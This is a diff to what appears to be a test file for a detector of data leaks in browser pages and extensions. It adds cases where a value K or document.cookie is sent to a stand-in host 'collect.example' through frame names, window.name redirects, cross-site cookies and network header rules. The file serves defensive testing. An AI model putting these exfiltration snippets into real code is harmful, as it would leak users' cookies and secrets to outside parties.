@@ -37,6 +37,11 @@ const PAGE: readonly (readonly [what: string, program: string])[] = [
     'a page that leads on',
     "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${TO}${K}`;",
   ],
+  [
+    'the name of a frame',
+    "const f = document.createElement('iframe'); f.name = K; f.src = 'https://collect.example/'; document.body.append(f);",
+  ],
+  ['the name of a window that is led elsewhere', "window.name = K; location.href = 'https://collect.example/';"],
   ['a window that was opened', "const w = window.open('about:blank'); w.location.href = TO + K;"],
   [
     'a frame that is led on',
@@ -79,6 +84,11 @@ const PAGE: readonly (readonly [what: string, program: string])[] = [
 ];
 
 const BACKGROUND: readonly (readonly [what: string, program: string])[] = [
+  ['a cookie of another site', "chrome.cookies.set({ url: 'https://collect.example/', name: 'd', value: K });"],
+  [
+    'a header by a rule',
+    "chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 1, action: { type: 'modifyHeaders', requestHeaders: [{ header: 'x-d', operation: 'set', value: K }] }, condition: { urlFilter: '||collect.example' } }] });",
+  ],
   [
     'headers of a download',
     "chrome.downloads.download({ url: 'https://collect.example/', headers: [{ name: 'a', value: K }] });",
@@ -127,6 +137,10 @@ it.each([
   [
     'what a link says',
     "const a = document.createElement('a'); a.href = `https://collect.example/?a=${document.cookie}`; document.body.append(a);",
+  ],
+  [
+    'the name of a frame of the page’s own',
+    "const f = document.createElement('iframe'); f.name = document.cookie; f.src = 'about:blank'; document.body.append(f);",
   ],
   ['a style that asks for nothing', "document.body.setAttribute('style', `--a: ${document.cookie}`);"],
   [
